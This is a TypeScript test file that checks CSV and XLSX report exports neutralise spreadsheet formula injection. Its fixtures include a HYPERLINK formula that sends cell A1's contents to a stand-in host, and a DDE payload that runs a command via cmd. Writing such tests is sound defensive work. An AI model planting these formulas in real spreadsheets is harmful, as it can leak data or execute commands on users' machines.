/**
 * Formula injection (OWASP "CSV Injection"): text cells that begin with `=`, `+`, `-`, `@`, tab
 * or CR are prefixed with `'` in the CSV and XLSX exports; printed numbers (negative ones too)
 * stay numbers.
 */
import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { buildRegressionTable } from '../../../src/report/regression-table';
import { tableToCsv, tableToXlsx } from '../../../src/services/export';
import { needsNeutralising, neutraliseCell } from '../../../src/services/export/neutralise';
import { east, produc } from '../../report/fixtures';

const PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"x")';
const negative = { ...produc, coefficients: produc.coefficients.map((c, i) => (i === 0 ? { ...c, estimate: -Math.abs(c.estimate) - 0.5, t: -Math.abs(c.t) } : c)) };
const first = produc.coefficients[0].name;
const table = buildRegressionTable([{ title: '(1)', fit: negative }, { title: '(2)', fit: east }], {
  title: '@SUM(1+1)*cmd|" /C calc"!A0',
  dependent: '-2+3',
  labels: { [first]: PAYLOAD },
  notes: '\tnote',
  extraRows: [{ label: '+1 controls', values: ['=1+1', -4.25] }],
});

describe('neutraliseCell', () => {
  test.each(['=1+1', '+1 x', '-2+3', '@SUM(A1)', '\tx', '\rx', '-cmd'])('prefixes %j', (s) => {
    expect(neutraliseCell(s)).toBe(`'${s}`);
  });
  test.each(['-0.512', '-0.512***', '+3', '1.2e-5', '-1e-3*', '(-0.086)', 'log(pc)', '', '0.169*'])('leaves %j', (s) => {
    expect(needsNeutralising(s)).toBe(false);
    expect(neutraliseCell(s)).toBe(s);
  });
});

describe('CSV export', () => {
  test('neutralises formula text and keeps negative estimates as numbers', () => {
    const csv = tableToCsv(table, { bom: false });
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(csv).toContain(`"'${PAYLOAD.replace(/"/g, '""')}",-`);
    expect(csv).toContain(`'-2+3`);
    expect(csv).toContain(`'+1 controls,'=1+1,`);
    expect(csv).toContain(`'\tnote`);
    // The negative estimate prints as a bare number (no quote prefix).
    const row = lines.find((l) => l.startsWith(`"'=HYPERLINK`)) as string;
    expect(row).toMatch(/",-\d+\.\d+\**,/);
    for (const line of lines) for (const f of line.split(',')) expect(/^[=+@\t\r]/.test(f)).toBe(false);
  });
});

describe('XLSX export', () => {
  test('neutralises formula text, keeps numbers (negative ones too) numeric, writes no formulas', async () => {
    const bytes = await tableToXlsx(table);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const ws = wb.worksheets[0];
    const texts: string[] = [];
    const numbers: number[] = [];
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
        if (typeof cell.value === 'number') numbers.push(cell.value);
      }),
    );
    expect(texts).toContain("'@SUM(1+1)*cmd|\" /C calc\"!A0");
    expect(texts).toContain(`'${PAYLOAD}`);
    expect(texts).toContain("'-2+3");
    expect(texts).toContain("'+1 controls");
    expect(texts).toContain("'=1+1");
    expect(texts).toContain("'\tnote");
    for (const t of texts) expect(/^[=+\-@\t\r]/.test(t)).toBe(false);
    expect(numbers.some((v) => v < 0)).toBe(true);
    expect(numbers).toContain(-4.25);
  });
});
